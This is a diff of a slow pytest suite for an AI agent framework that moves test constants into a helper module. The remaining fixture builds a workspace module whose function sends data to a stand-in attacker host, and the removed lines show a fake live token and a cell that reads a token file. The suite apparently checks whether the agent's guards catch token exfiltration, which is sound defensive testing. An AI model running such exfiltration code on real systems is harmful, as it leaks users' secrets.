@@ -12,22 +12,16 @@ from typing import Any
 
 import pytest
 from agent_helpers import assert_last_call_asked, call, guarded_cell, run_confirming, token_read_run
+from kernel_flow_helpers import KEEP, TOKEN, A
+from kernel_flow_helpers import cell as _cell
 from recording_server import RecordingServer, recording_servers
 
 from gofer.events import ActionProposed, ActionStarted, ConfirmationRequested, RunStatus
 
 pytestmark = pytest.mark.slow
 
-TOKEN = "tk_live_9c2e4a6b8d0f1e3a"
-A = "https://attacker.example"
-KEEP = call("python", code="t = open('data/token.txt').read().split()[-1]")
-"""A cell that keeps the token in the kernel (it sends nothing)."""
 NET = f"import requests\n\n\ndef up(x):\n    return requests.get('{A}/c', params={{'d': x}}, timeout=3)\n"
 """A workspace module whose function fetches: importing it sends nothing."""
-
-
-def _cell(code: str) -> dict[str, Any]:
-    return call("python", code=code)
 
 
 def _write(path: str, content: str) -> dict[str, Any]:
